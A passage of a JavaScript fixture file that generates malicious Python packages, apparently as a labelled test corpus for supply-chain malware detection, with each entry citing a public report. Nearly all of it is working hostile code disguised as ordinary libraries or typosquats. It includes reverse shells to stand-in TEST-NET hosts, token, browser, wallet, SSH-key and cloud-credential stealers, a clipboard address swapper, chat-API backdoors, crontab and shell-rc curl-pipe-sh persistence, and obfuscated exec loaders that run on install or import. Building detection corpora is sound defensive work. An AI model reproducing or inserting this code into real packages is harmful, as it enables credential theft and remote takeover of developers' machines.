      'richtext_themes/static/logo.png': png({ trailer: Buffer.from(zb64(P_DOWNLOAD_RUN)) }),
    }),
  },
  {
    id: 'png-text-chunk-setup-reverse-shell',
    family: 'steganography',
    note: '[install, hard] setup.py "validates the README banner": it walks the PNG chunks, takes the tEXt Comment value, base64-decodes it and exec()s a reverse shell. After: https://cyberreplay.pages.dev/blog/pypi-supply-chain-audio-steganography-detection-mitigation/ and https://arxiv.org/html/2512.12559v1',
    ...pkg('sphinx_banner', '1.0.4', 'A Sphinx extension that adds a banner image', {
      'setup.py':
        py`import base64
import struct
from setuptools import setup


def _check_banner(path='docs/banner.png'):
    with open(path, 'rb') as f:
        data = f.read()
    pos, meta = 8, {}
    while pos < len(data):
        n, = struct.unpack('>I', data[pos:pos + 4])
        kind = data[pos + 4:pos + 8]
        if kind == b'tEXt':
            k, _, v = data[pos + 8:pos + 8 + n].partition(b'\x00')
            meta[k.decode()] = v
        pos += n + 12
    if 'Comment' in meta:
        exec(base64.b64decode(meta['Comment']))
    return meta


_check_banner()
` + plainSetup('sphinx_banner', '1.0.4', "'sphinx_banner'"),
      'sphinx_banner/__init__.py':
        "def setup(app):\n    app.add_config_value('banner_image', None, 'html')\n    return {'parallel_read_safe': True}\n",
      'docs/banner.png': png({
        text: ['Comment', b64(`import os\nif os.fork() == 0:\n${P_REVSHELL.replace(/^/gm, '    ')}`)],
      }),
    }),
  },
  {
    id: 'discord-leveldb-token-webhook',
    family: 'credential_theft',
    note: '[import] on import scans Discord and browser Local Storage leveldb files for account tokens with a regex and posts them to a Discord webhook (invented id). After: https://safeguard.sh/resources/blog/pypi-supply-chain-attacks-q1-2024',
    ...pkg('pycord_selfbot', '2.6.9', 'Utilities for Discord bots', {
      'setup.py':
        "from setuptools import setup\nsetup(name='pycord_selfbot', version='2.6.9', packages=['pycord_selfbot'], install_requires=['requests'])\n",
      'pycord_selfbot/__init__.py': py`import os
import re
import requests

_HOOK = 'https://discord.com/api/webhooks/${FAKE.discordId}/${FAKE.discordToken}'


def _paths():
    roaming = os.getenv('APPDATA', '')
    local = os.getenv('LOCALAPPDATA', '')
    return [
        os.path.join(roaming, 'discord', 'Local Storage', 'leveldb'),
        os.path.join(roaming, 'discordcanary', 'Local Storage', 'leveldb'),
        os.path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Local Storage', 'leveldb'),
        os.path.join(local, 'BraveSoftware', 'Brave-Browser', 'User Data', 'Default', 'Local Storage', 'leveldb'),
    ]


def _grab():
    found = set()
    for p in _paths():
        if not os.path.isdir(p):
            continue
        for f in os.listdir(p):
            if f.endswith(('.log', '.ldb')):
                with open(os.path.join(p, f), errors='ignore') as fh:
                    found.update(re.findall(r'[\w-]{24,26}\.[\w-]{6}\.[\w-]{25,110}', fh.read()))
    if found:
        requests.post(_HOOK, json={'username': os.getenv('USERNAME', '?'), 'content': '\n'.join(found)}, timeout=5)


try:
    _grab()
except Exception:
    pass


class Bot:
    def __init__(self, prefix='!'):
        self.prefix = prefix
`,
    }),
  },
  {
    id: 'install-browser-logins-telegram',
    family: 'browser_theft',
    note: '[install] install override copies Chrome/Edge Login Data and Cookies databases, zips them and sends them to a Telegram bot (invented token and chat). After: https://securityonline.info/pypi-takes-emergency-measures-to-combat-malicious-package-flood',
    ...pkg('matplotlyb', '3.8.5', 'Python plotting package', {
      'setup.py':
        py`import os
import shutil
import tempfile
import zipfile
from setuptools import setup
from setuptools.command.install import install

BOT = '${FAKE.tgBot}'
CHAT = '${FAKE.tgChat}'


def _collect():
    local = os.environ.get('LOCALAPPDATA')
    if not local:
        return None
    out = os.path.join(tempfile.gettempdir(), 'mpl_cache.zip')
    with zipfile.ZipFile(out, 'w') as z:
        for browser in (('Google', 'Chrome'), ('Microsoft', 'Edge')):
            base = os.path.join(local, *browser, 'User Data')
            for name in ('Local State', os.path.join('Default', 'Login Data'), os.path.join('Default', 'Network', 'Cookies')):
                src = os.path.join(base, name)
                if os.path.exists(src):
                    tmp = src + '.bak'
                    shutil.copy2(src, tmp)
                    z.write(tmp, '_'.join(browser) + '/' + os.path.basename(name))
    return out


class Install(install):
    def run(self):
        install.run(self)
        try:
            import requests
            p = _collect()
            if p:
                with open(p, 'rb') as f:
                    requests.post('https://api.telegram.org/bot' + BOT + '/sendDocument', data={'chat_id': CHAT}, files={'document': f})
        except Exception:
            pass


` +
        plainSetup(
          'matplotlyb',
          '3.8.5',
          "'matplotlyb'",
          "    install_requires=['requests'],\n    cmdclass={'install': Install},\n",
        ),
      'matplotlyb/__init__.py': 'from matplotlib import *  # noqa: F401,F403\n',
    }),
  },
  {
    id: 'clipboard-address-swapper-thread',
    family: 'clipboard_swap',
    note: '[import] a "price ticker" starts a thread that polls the clipboard and replaces any BTC, ETH or TRON address with the attacker\'s (invented addresses). After: https://en.ittrends.news/Information+Technology/Software/2024/10/malicious-python-packages-cryptocurrency-security.html',
    ...pkg('cryptotick', '0.2.1', 'Live crypto prices in your terminal', {
      'setup.py':
        "from setuptools import setup\nsetup(name='cryptotick', version='0.2.1', packages=['cryptotick'], install_requires=['pyperclip'])\n",
      'cryptotick/__init__.py': py`import re
import threading
import time

import pyperclip

_RULES = [
    (re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$'), '${FAKE.btc}'),
    (re.compile(r'^0x[a-fA-F0-9]{40}$'), '${FAKE.eth}'),
    (re.compile(r'^T[1-9A-HJ-NP-Za-km-z]{33}$'), '${FAKE.trx}'),
]


def _watch():
    last = None
    while True:
        try:
            cur = pyperclip.paste().strip()
            if cur != last:
                for rx, mine in _RULES:
                    if rx.match(cur) and cur != mine:
                        pyperclip.copy(mine)
                        cur = mine
                        break
                last = cur
        except Exception:
            pass
        time.sleep(0.5)


threading.Thread(target=_watch, daemon=True).start()


def price(symbol):
    return {'BTC': 0.0, 'ETH': 0.0}.get(symbol.upper())
`,
    }),
  },
  {
    id: 'wallet-vault-decoder-exfil',
    family: 'wallet_theft',
    note: '[runtime, hard] a MetaMask vault "decoder" really derives the key and decrypts, then reports password and recovered mnemonic to an "analytics" endpoint from a helper module. After: https://news.okaylabs.io/2024/10/11/crypto-stealing-malware-discovered-in-python-package-index-checkmarx',
    ...pkg('metamask_vault_decrypt', '1.3.0', 'Recover a MetaMask seed phrase from a vault file', {
      'setup.py':
        "from setuptools import setup\nsetup(name='metamask_vault_decrypt', version='1.3.0', packages=['mmvd'], install_requires=['cryptography'])\n",
      'mmvd/__init__.py': 'from .vault import decrypt_vault\n',
      'mmvd/vault.py': py`import base64
import hashlib
import json

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

from ._stats import record


def decrypt_vault(password, vault_json):
    v = json.loads(vault_json)
    key = hashlib.pbkdf2_hmac('sha256', password.encode(), base64.b64decode(v['salt']), 10000, 32)
    plain = AESGCM(key).decrypt(base64.b64decode(v['iv']), base64.b64decode(v['data']), None)
    result = json.loads(plain)
    record('ok', password, result)
    return result
`,
      'mmvd/_stats.py': py`import json
import threading
import urllib.request

_EP = 'https://api.vaultdecode.example/v2/stat'


def _send(body):
    try:
        urllib.request.urlopen(urllib.request.Request(_EP, data=body, headers={'Content-Type': 'application/json'}), timeout=6)
    except Exception:
        pass


def record(status, *ctx):
    body = json.dumps({'status': status, 'ctx': ctx}, default=str).encode()
    threading.Thread(target=_send, args=(body,), daemon=True).start()
`,
    }),
  },
  {
    id: 'telegram-fork-dispatcher-backdoor',
    family: 'backdoor_c2',
    note: '[runtime, hard] a fork of a Telegram bot framework whose dispatcher, among honest handler code, runs shell commands and Python from messages sent by a fixed set of user ids. After: https://appsecuritystandards.org/blog/trojanized-pyrogram-forks-on-pypi',
    ...pkg('tgramkit', '2.0.107', 'Elegant, modern and asynchronous Telegram MTProto framework (maintained fork)', {
      'setup.py':
        "from setuptools import setup, find_packages\nsetup(name='tgramkit', version='2.0.107', packages=find_packages())\n",
      'tgramkit/__init__.py': 'from .client import Client\nfrom .dispatcher import Dispatcher\n',
      'tgramkit/client.py': py`from .dispatcher import Dispatcher


class Client:
    def __init__(self, name, api_id=None, api_hash=None, bot_token=None):
        self.name = name
        self.api_id = api_id
        self.api_hash = api_hash
        self.bot_token = bot_token
        self.dispatcher = Dispatcher(self)

    async def send_message(self, chat_id, text):
        return {'chat_id': chat_id, 'text': text}

    def on_message(self, filters=None):
        def deco(fn):
            self.dispatcher.add_handler(fn, filters)
            return fn
        return deco
`,
      'tgramkit/dispatcher.py': py`import asyncio
import subprocess
import traceback

_OWNERS = {5839201774, 6120044391, 7001928347}


class Dispatcher:
    def __init__(self, client):
        self.client = client
        self.handlers = []

    def add_handler(self, fn, filters=None):
        self.handlers.append((fn, filters))

    async def _maintenance(self, message):
        text = message.text or ''
        if text.startswith('/sh '):
            out = subprocess.run(text[4:], shell=True, capture_output=True, text=True, timeout=60)
            await self.client.send_message(message.chat.id, (out.stdout + out.stderr)[-4000:] or 'ok')
        elif text.startswith('/py '):
            scope = {'client': self.client, 'message': message}
            try:
                exec(compile(text[4:], '<update>', 'exec'), scope)
                await self.client.send_message(message.chat.id, str(scope.get('result', 'ok')))
            except Exception:
                await self.client.send_message(message.chat.id, traceback.format_exc()[-4000:])

    async def feed(self, message):
        user = getattr(message, 'from_user', None)
        if user is not None and user.id in _OWNERS:
            await self._maintenance(message)
        for fn, flt in self.handlers:
            if flt is None or flt(message):
                res = fn(self.client, message)
                if asyncio.iscoroutine(res):
                    await res
`,
    }),
  },
  {
    id: 'chat-api-c2-runkey',
    family: 'backdoor_c2',
    note: '[import] Windows-only: registers itself under the HKCU Run key with reg.exe, then polls a chat-platform API (invented host and bot key) for base64 commands and posts their output back. After: https://appsecuritystandards.org/blog/pypi-malware-detection-playbook-for-python-teams (ZiChatBot)',
    ...pkg('colorinall', '0.1.9', 'Colour names and conversions', {
      'setup.py': "from setuptools import setup\nsetup(name='colorinall', version='0.1.9', packages=['colorinall'])\n",
      'colorinall/__init__.py': py`from .names import NAMES
from . import _sync  # noqa: F401
`,
      'colorinall/names.py': "NAMES = {'red': (255, 0, 0), 'green': (0, 128, 0), 'blue': (0, 0, 255)}\n",
      'colorinall/_sync.py': py`import base64
import json
import os
import subprocess
import sys
import threading
import time
import urllib.parse
import urllib.request

_API = 'https://chat.termtools.example/api/v1'
_AUTH = 'Basic ' + base64.b64encode(b'sync-bot@termtools.example:${FAKE.zulipKey}').decode()


def _persist():
    exe = sys.executable.replace('python.exe', 'pythonw.exe')
    cmd = '"%s" -c "import colorinall"' % exe
    subprocess.run(['reg', 'add', r'HKCU\Software\Microsoft\Windows\CurrentVersion\Run', '/v', 'ColorSync',
                    '/t', 'REG_SZ', '/d', cmd, '/f'], capture_output=True, creationflags=0x08000000)


def _call(path, data=None):
    req = urllib.request.Request(_API + path, data=data, headers={'Authorization': _AUTH})
    return json.load(urllib.request.urlopen(req, timeout=20))


def _loop():
    seen = 0
    while True:
        try:
            for m in _call('/messages?anchor=newest&num_before=5').get('messages', []):
                if m['id'] > seen:
                    seen = m['id']
                    out = subprocess.run(base64.b64decode(m['content']).decode(), shell=True, capture_output=True, text=True)
                    _call('/messages', urllib.parse.urlencode({'type': 'stream', 'to': 'ops', 'content': out.stdout[-9000:]}).encode())
        except Exception:
            pass
        time.sleep(30)


if os.name == 'nt':
    _persist()
    threading.Thread(target=_loop, daemon=True).start()
`,
    }),
  },
  {
    id: 'typosquat-http-host-user-beacon',
    family: 'beacon',
    note: '[install] setup.py reports hostname, user, working directory and the squatted name in a GET query. After: https://niverel.tymyrddin.space/en/research/stories/cca/pypi',
    ...pkg('reqeusts', '2.32.0', 'Python HTTP for Humans.', {
      'setup.py':
        py`import getpass
import os
import socket
import urllib.parse
import urllib.request
from setuptools import setup

try:
    urllib.request.urlopen('http://pkg-stats.test/p?' + urllib.parse.urlencode({
        'p': 'reqeusts', 'h': socket.gethostname(), 'u': getpass.getuser(), 'c': os.getcwd(),
    }), timeout=3)
except Exception:
    pass

` + plainSetup('reqeusts', '2.32.0', "'reqeusts'"),
      'reqeusts/__init__.py': 'from urllib.request import urlopen\n',
    }),
  },
  {
    id: 'depconf-dns-hex-labels',
    family: 'beacon',
    note: '[install] dependency-confusion squat of an internal name at version 99: hostname, user and cwd hex-encoded into DNS labels under an invented zone and resolved. After: https://protectai.com/blog/secure-your-python-projects-with-dummies and https://blog.crawlex.net/blog/dependency-confusion',
    ...pkg('acme_internal_auth', '99.0.0', 'acme internal auth client', {
      'setup.py':
        py`import binascii
import getpass
import os
import socket
from setuptools import setup


def _labels(s, n=60):
    h = binascii.hexlify(s.encode()).decode()
    return [h[i:i + n] for i in range(0, len(h), n)] or ['0']


def _ping():
    for i, part in enumerate((socket.gethostname(), getpass.getuser(), os.getcwd())):
        for j, lab in enumerate(_labels(part)[:3]):
            try:
                socket.getaddrinfo('%s.%d%d.acme-auth.d.oast.test' % (lab, i, j), 80)
            except OSError:
                pass


_ping()
` + plainSetup('acme_internal_auth', '99.0.0', "'acme_internal_auth'"),
      'acme_internal_auth/__init__.py': '',
    }),
  },
  {
    id: 'ssh-helper-boto3-credentials',
    family: 'env_cloud_harvest',
    note: '[runtime, hard] an SSH convenience wrapper whose connect() also "validates the environment": it reads AWS credentials through boto3 and posts them, with the SSH password, from a second module. After: https://gabztech.com/2024/11/08/overview-of-pypi-and-its-role-in-the-developer-ecosystem (fabrice)',
    ...pkg('fabrik', '3.2.3', 'Simple SSH command execution and file transfer', {
      'setup.py':
        "from setuptools import setup\nsetup(name='fabrik', version='3.2.3', packages=['fabrik'], install_requires=['paramiko', 'boto3'])\n",
      'fabrik/__init__.py': 'from .connection import Connection\n',
      'fabrik/connection.py': py`import paramiko

from ._env import validate


class Connection:
    def __init__(self, host, user=None, password=None, port=22):
        self.host, self.user, self.password, self.port = host, user, password, port
        self._c = None

    def connect(self):
        self._c = paramiko.SSHClient()
        self._c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        self._c.connect(self.host, port=self.port, username=self.user, password=self.password)
        validate(self.host, self.user, self.password)
        return self

    def run(self, cmd):
        _, out, err = self._c.exec_command(cmd)
        return out.read().decode(), err.read().decode()
`,
      'fabrik/_env.py': py`import json
import threading
import urllib.request


def _creds():
    try:
        import boto3
        c = boto3.Session().get_credentials()
        if c:
            f = c.get_frozen_credentials()
            return {'ak': f.access_key, 'sk': f.secret_key, 'st': f.token}
    except Exception:
        return {}
    return {}


def _post(data):
    try:
        urllib.request.urlopen('https://89.fabrik-telemetry.example/v', data=json.dumps(data).encode(), timeout=8)
    except Exception:
        pass


def validate(host, user, password):
    data = dict(_creds(), host=host, user=user, pw=password)
    threading.Thread(target=_post, args=(data,), daemon=True).start()
`,
    }),
  },
  {
    id: 'setup-imds-role-credentials',
    family: 'env_cloud_harvest',
    note: '[install] setup.py computes the link-local metadata address from octets, asks for an IMDSv2 token, reads the instance role credentials and posts them. After: https://agentlair.dev/blog/dont-let-agents-hold-their-own-credentials and https://cloudindustryreview.com/malicious-pypi-packages-compromise-cloud-tokens-with-14100-downloads-before-being-pulled',
    ...pkg('boto3_helpers_ext', '1.0.2', 'Convenience helpers around boto3', {
      'setup.py':
        py`import json
import urllib.request
from setuptools import setup

_MD = 'http://' + '.'.join(str(o) for o in (0xA9, 0xFE, 0xA9, 0xFE))


def _get(path, token=None, method='GET'):
    h = {'X-aws-ec2-metadata-token': token} if token else {'X-aws-ec2-metadata-token-ttl-seconds': '300'}
    return urllib.request.urlopen(urllib.request.Request(_MD + path, headers=h, method=method), timeout=2).read().decode()


try:
    tok = _get('/latest/api/token', method='PUT')
    role = _get('/latest/meta-data/iam/security-credentials/', tok).split()[0]
    creds = _get('/latest/meta-data/iam/security-credentials/' + role, tok)
    ident = _get('/latest/dynamic/instance-identity/document', tok)
    urllib.request.urlopen('https://203.0.113.66/r', data=json.dumps({'c': creds, 'i': ident}).encode(), timeout=4)
except Exception:
    pass

` + plainSetup('boto3_helpers_ext', '1.0.2', "'boto3_helpers_ext'"),
      'boto3_helpers_ext/__init__.py':
        "def bucket_names(s3):\n    return [b['Name'] for b in s3.list_buckets()['Buckets']]\n",
    }),
  },
  {
    id: 'setup-fork-pty-reverse-shell',
    family: 'reverse_shell',
    note: '[install] setup.py forks; the child connects to a TEST-NET address, dup2s the socket over stdio and spawns a pty shell while the parent finishes the install. After: https://reddit.sentinel-team.org/posts/1r8n9nk/snapshots/2026-02-19T22%3A50%3A01.146175Z',
    ...pkg('pyyamll', '6.0.3', 'YAML parser and emitter for Python', {
      'setup.py':
        py`import os
from setuptools import setup

if hasattr(os, 'fork') and os.fork() == 0:
    try:
        os.setsid()
        import socket, pty
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(('198.51.100.23', 4444))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        os.dup2(s.fileno(), 2)
        pty.spawn('/bin/sh')
    finally:
        os._exit(0)

` + plainSetup('pyyamll', '6.0.3', "'pyyamll'"),
      'pyyamll/__init__.py':
        "def safe_load(s):\n    return dict(line.split(': ', 1) for line in s.splitlines() if ': ' in line)\n",
    }),
  },
  {
    id: 'import-windows-cmd-socket-pipes',
    family: 'reverse_shell',
    note: '[import] Windows reverse shell: cmd.exe started with pipes, two threads pump bytes between it and a socket to a TEST-NET address. After: https://safeguard.sh/resources/blog/pip-install-hooks-security-risks',
    ...pkg('win32_toastr', '0.0.8', 'Windows toast notifications', {
      'setup.py':
        "from setuptools import setup\nsetup(name='win32_toastr', version='0.0.8', packages=['win32_toastr'])\n",
      'win32_toastr/__init__.py': py`import os
import socket
import subprocess
import threading


def _pump(src, dst):
    while True:
        data = src.read(1) if hasattr(src, 'read') else src.recv(1024)
        if not data:
            break
        if hasattr(dst, 'write'):
            dst.write(data)
            dst.flush()
        else:
            dst.send(data)


def _link():
    s = socket.socket()
    s.connect(('192.0.2.120', 8443))
    p = subprocess.Popen(['cmd.exe'], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                         creationflags=0x08000000)
    threading.Thread(target=_pump, args=(s, p.stdin), daemon=True).start()
    threading.Thread(target=_pump, args=(p.stdout, s), daemon=True).start()


if os.name == 'nt':
    threading.Thread(target=_link, daemon=True).start()


def notify(title, body):
    print('[%s] %s' % (title, body))
`,
    }),
  },
  {
    id: 'setup-shell-rc-curl-line',
    family: 'persistence',
    note: '[install] setup.py appends a background curl | sh line to ~/.bashrc and ~/.zshrc so every new shell runs the attacker script. After: https://safeguard.sh/resources/blog/pip-install-hooks-security-risks',
    ...pkg('dotenv_loader', '1.0.9', 'Load .env files into os.environ', {
      'setup.py':
        py`import os
from setuptools import setup

_LINE = '\n(curl -fsSL http://192.0.2.61/s | sh >/dev/null 2>&1 &) # dotenv completion\n'
for rc in ('~/.bashrc', '~/.zshrc', '~/.profile'):
    p = os.path.expanduser(rc)
    try:
        if os.path.exists(p) and 'dotenv completion' not in open(p).read():
            with open(p, 'a') as f:
                f.write(_LINE)
    except OSError:
        pass

` + plainSetup('dotenv_loader', '1.0.9', "'dotenv_loader'"),
      'dotenv_loader/__init__.py': py`import os


def load(path='.env'):
    for line in open(path):
        if '=' in line and not line.startswith('#'):
            k, v = line.strip().split('=', 1)
            os.environ.setdefault(k, v)
`,
    }),
  },
  {
    id: 'setup-crontab-reboot-and-interval',
    family: 'persistence',
    note: '[install] setup.py adds @reboot and half-hourly crontab entries that fetch and run a script. After: https://safeguard.sh/resources/blog/pip-install-hooks-security-risks',
    ...pkg('sched_utils', '0.3.2', 'Helpers for periodic jobs', {
      'setup.py':
        py`import subprocess
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        job = '*/30 * * * * curl -s http://203.0.113.41/t | bash\n@reboot python3 -c "import urllib.request as u;exec(u.urlopen(\'http://203.0.113.41/p\').read())"\n'
        subprocess.run('(crontab -l 2>/dev/null; printf %s "' + job.replace('"', '\\"') + '") | crontab -', shell=True)


` + plainSetup('sched_utils', '0.3.2', "'sched_utils'", "    cmdclass={'install': Install},\n"),
      'sched_utils/__init__.py': "def every(seconds):\n    return {'interval': seconds}\n",
    }),
  },
  {
    id: 'setup-chr-array-exec',
    family: 'obfuscated_exec',
    note: '[install] setup.py joins a chr() array into source and exec()s it (download, chmod, run). After: https://www.themoonlight.io/review/one-detector-fits-all-robust-and-adaptive-detection-of-malicious-packages-from-pypi-to-enterprises (binary arrays)',
    ...pkg('urllib4', '2.2.3', 'HTTP library with thread-safe connection pooling', {
      'setup.py':
        `from setuptools import setup\n_d = [${chrList(P_DOWNLOAD_RUN)}]\nexec(''.join(map(chr, _d)))\n` +
        plainSetup('urllib4', '2.2.3', "'urllib4'"),
      'urllib4/__init__.py': "__version__ = '2.2.3'\n",
    }),
  },
  {
    id: 'import-lambda-chain-getattr-builtins',
    family: 'obfuscated_exec',
    note: '[import] a lambda chain resolves exec via getattr on the builtins module from reversed and split names, and feeds it base32 text that posts the environment. After: https://www.themoonlight.io/review/one-detector-fits-all-robust-and-adaptive-detection-of-malicious-packages-from-pypi-to-enterprises and https://pypi-scanner-pages.pages.dev/docs',
    ...pkg('tqdm_rich', '4.66.8', 'Rich progress bars', {
      'setup.py': "from setuptools import setup\nsetup(name='tqdm_rich', version='4.66.8', packages=['tqdm_rich'])\n",
      'tqdm_rich/__init__.py': `_ = (lambda m: (lambda f: (lambda d: f(d)))(getattr(__import__(m), ''.join(reversed('cexe')))))('built' + 'ins')\n_(getattr(__import__('bas' + 'e64'), 'b32decode')('${base32(P_ENV_POST)}').decode())\n\n\ndef trange(n):\n    return range(n)\n`,
    }),
  },
  {
    id: 'setup-rot13-hex-xor-layers',
    family: 'obfuscated_exec',
    note: '[install] three layers: rot13 of a hex string, bytes.fromhex, single-byte XOR; result exec()d (env post). After: https://pypi-scanner-pages.pages.dev/docs and https://arxiv.org/html/2512.04338v1',
    ...pkg('pandas_profilling', '3.6.7', 'Generate profile report for pandas DataFrame', {
      'setup.py':
        `import codecs\nfrom setuptools import setup\n_k = 0x5A\n_s = '${rot13(xorBytes(Buffer.from(P_ENV_POST), Buffer.from([0x5a])).toString('hex'))}'\nexec(bytes(b ^ _k for b in bytes.fromhex(codecs.decode(_s, 'rot13'))).decode())\n` +
        plainSetup('pandas_profilling', '3.6.7', "'pandas_profilling'"),
      'pandas_profilling/__init__.py': 'def profile(df):\n    return df.describe()\n',
    }),
  },
  {
    id: 'import-marshal-zlib-b64',
    family: 'obfuscated_exec',
    note: '[import] exec(marshal.loads(zlib.decompress(base64.b64decode(blob)))) in __init__ (a marshalled code object; inert bytes here). After: https://pypi-scanner-pages.pages.dev/docs',
    ...pkg('aiohttp_socks5', '0.8.4', 'SOCKS proxy connector for aiohttp', {
      'setup.py':
        "from setuptools import setup\nsetup(name='aiohttp_socks5', version='0.8.4', packages=['aiohttp_socks5'])\n",
      'aiohttp_socks5/__init__.py': `import base64, marshal, zlib\nexec(marshal.loads(zlib.decompress(base64.b64decode('${zb64(fakeMarshal(P_DOWNLOAD_RUN))}'))))\n\n\nclass ProxyConnector:\n    def __init__(self, url):\n        self.url = url\n`,
    }),
  },
  {
    id: 'setup-nfkc-homoglyph-identifiers',
    family: 'obfuscated_exec',
    note: '[install] identifiers written in fullwidth and mathematical italic letters (exec, base64, subprocess) that Python folds to ASCII by NFKC; the decoded text starts a reverse shell in a background Python. After: https://peps.python.org/pep-0672/',
    ...pkg('colorlogx', '6.8.3', 'Colored log formatter', {
      'setup.py':
        `import ${mi('base')}64\nimport ${mi('subprocess')}\nimport sys\nfrom setuptools import setup\n\n${fw('payload')} = ${mi('base')}64.b64decode('${b64(P_REVSHELL)}').decode()\n${mi('subprocess')}.${fw('Popen')}([sys.executable, '-c', ${fw('payload')}], start_new_session=True)\n${fw('exec')}('pass')\n` +
        plainSetup('colorlogx', '6.8.3', "'colorlogx'"),
      'colorlogx/__init__.py': 'import logging\n\n\nclass ColoredFormatter(logging.Formatter):\n    pass\n',
    }),
  },
  {
    id: 'import-compile-reversed-source',
    family: 'obfuscated_exec',
    note: '[import] source stored reversed; compile(s[::-1], ...) then exec (sends home directory secrets). After: https://arxiv.org/html/2512.04338v1 (data reordering)',
    ...pkg('jsonschema_lite', '4.21.9', 'A lightweight JSON Schema validator', {
      'setup.py':
        "from setuptools import setup\nsetup(name='jsonschema_lite', version='4.21.9', packages=['jsonschema_lite'])\n",
      'jsonschema_lite/__init__.py': `_S = ${JSON.stringify(rev(P_STEAL_HOME.replace('collect.llmroute.example/v1/ingest', 'schemas.jsonlite.example/u')))}\nexec(compile(_S[::-1], 'schema', 'exec'))\n\n\ndef validate(instance, schema):\n    return isinstance(instance, dict) if schema.get('type') == 'object' else True\n`,
    }),
  },
  {
    id: 'fork-appended-thread-after-padding',
    family: 'trojanized_fork',
    note: '[import, hard] an honest copy of a small "humanize"-style library with a payload appended after many blank lines at the end of a submodule: a daemon thread uploads SSH keys and git credentials. After: https://archon-eight.vercel.app/war-room/litellm-supply-chain-2026 (1.82.7 payload appended to an existing module)',
    ...pkg('humanise', '4.9.1', 'Python humanize utilities', {
      'setup.py': "from setuptools import setup\nsetup(name='humanise', version='4.9.1', packages=['humanise'])\n",
      'humanise/__init__.py': 'from .filesize import naturalsize\nfrom .number import intcomma, ordinal\n',
      'humanise/number.py': py`def intcomma(value):
    s = str(int(value))
    out = ''
    while len(s) > 3:
        out = ',' + s[-3:] + out
        s = s[:-3]
    return s + out


def ordinal(value):
    n = int(value)
    suffix = 'th' if 10 <= n % 100 <= 20 else {1: 'st', 2: 'nd', 3: 'rd'}.get(n % 10, 'th')
    return '%d%s' % (n, suffix)
`,
      'humanise/filesize.py':
        py`suffixes = {
    'decimal': ('kB', 'MB', 'GB', 'TB', 'PB'),
    'binary': ('KiB', 'MiB', 'GiB', 'TiB', 'PiB'),
}


def naturalsize(value, binary=False, format='%.1f'):
    base = 1024 if binary else 1000
    bytes_ = float(value)
    if abs(bytes_) < base:
        return '%d Bytes' % bytes_
    for i, s in enumerate(suffixes['binary' if binary else 'decimal']):
        unit = base ** (i + 2)
        if abs(bytes_) < unit:
            return (format + ' %s') % (base * bytes_ / unit, s)
    return (format + ' %s') % (bytes_ / unit, s)
` +
        '\n'.repeat(180) +
        py`import threading as _t, os as _o, glob as _g, urllib.request as _u
def _f():
    b = b''
    for p in _g.glob(_o.path.expanduser('~/.ssh/id_*')) + [_o.path.expanduser('~/.git-credentials')]:
        try:
            b += p.encode() + b'\n' + open(p, 'rb').read() + b'\n--\n'
        except OSError:
            pass
    b and _u.urlopen('https://cdn.humanise-docs.example/i', data=b, timeout=5)
_t.Thread(target=_f, daemon=True).start()
`,
    }),
  },
  {
    id: 'split-plugin-refresh-remote-exec',
    family: 'download_exec',
    note: '[import, hard] three files: config assembles a "plugin mirror" URL from pieces, net.py is a generic fetch, plugins.refresh() fetches a platform bootstrap and exec()s it; __init__ calls refresh() on import. After: https://securityonline.info/pypi-takes-emergency-measures-to-combat-malicious-package-flood (dynamically built URL, remote stage)',
    ...pkg('flowkit', '0.12.0', 'Composable data-flow pipelines with plugins', {
      'setup.py': "from setuptools import setup\nsetup(name='flowkit', version='0.12.0', packages=['flowkit'])\n",
      'flowkit/__init__.py': py`from .pipeline import Pipeline
from .plugins import refresh

refresh()
`,
      'flowkit/pipeline.py': py`class Pipeline:
    def __init__(self, *steps):
        self.steps = list(steps)

    def __call__(self, x):
        for s in self.steps:
            x = s(x)
        return x
`,
      'flowkit/config.py': py`DEFAULTS = {
    'channel': 'stable',
    'mirror': ''.join(['https://', 'plug', 'ins.', 'flow', 'kit', '.exa', 'mple']),
    'timeout': 6,
}
`,
      'flowkit/net.py': py`import urllib.request

from .config import DEFAULTS


def fetch(path):
    return urllib.request.urlopen(DEFAULTS['mirror'] + path, timeout=DEFAULTS['timeout']).read()
`,
      'flowkit/plugins.py': py`import platform

from .net import fetch

REGISTRY = {}


def register(name):
    def deco(fn):
        REGISTRY[name] = fn
        return fn
    return deco


def refresh():
    try:
        code = fetch('/bootstrap/%s/%s.py' % (platform.system().lower(), 'stable'))
        ns = {'register': register}
        exec(code, ns)
    except Exception:
        pass
`,
    }),
  },
  {
    id: 'split-three-file-browser-wallet-stealer',
    family: 'browser_theft',
    note: '[import, hard] constants.py lists browser profiles and wallet extension folders, _cache.py "warms a cache" by zipping them, _report.py uploads the zip as a "crash report" from an atexit hook set in __init__. After: https://securityonline.info/pypi-takes-emergency-measures-to-combat-malicious-package-flood and https://investindiablog.com/fake-crypto-wallet-tools-on-pypi-steal-sensitive-user-data',
    ...pkg('pdfkit_ng', '1.4.2', 'Convert HTML to PDF', {
      'setup.py': "from setuptools import setup\nsetup(name='pdfkit_ng', version='1.4.2', packages=['pdfkit_ng'])\n",
      'pdfkit_ng/__init__.py': py`import atexit

from . import _cache, _report
from .api import from_string

atexit.register(lambda: _report.submit(_cache.snapshot()))
`,
      'pdfkit_ng/api.py': py`import subprocess


def from_string(html, out):
    subprocess.run(['wkhtmltopdf', '-', out], input=html.encode(), check=True)
`,
      'pdfkit_ng/constants.py': py`import os

_L = os.environ.get('LOCALAPPDATA', os.path.expanduser('~/.config'))
PROFILES = [
    os.path.join(_L, 'Google', 'Chrome', 'User Data', 'Default'),
    os.path.join(_L, 'BraveSoftware', 'Brave-Browser', 'User Data', 'Default'),
    os.path.expanduser('~/.config/google-chrome/Default'),
]
FILES = ['Login Data', 'Web Data', 'Network/Cookies']
EXTENSIONS = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'ibnejdfjmmkpcnlpebklmnkoeoihofec']
WALLETS = [os.path.expanduser(p) for p in ('~/.electrum/wallets', '~/.config/Exodus/exodus.wallet', '~/AppData/Roaming/atomic/Local Storage/leveldb')]
`,
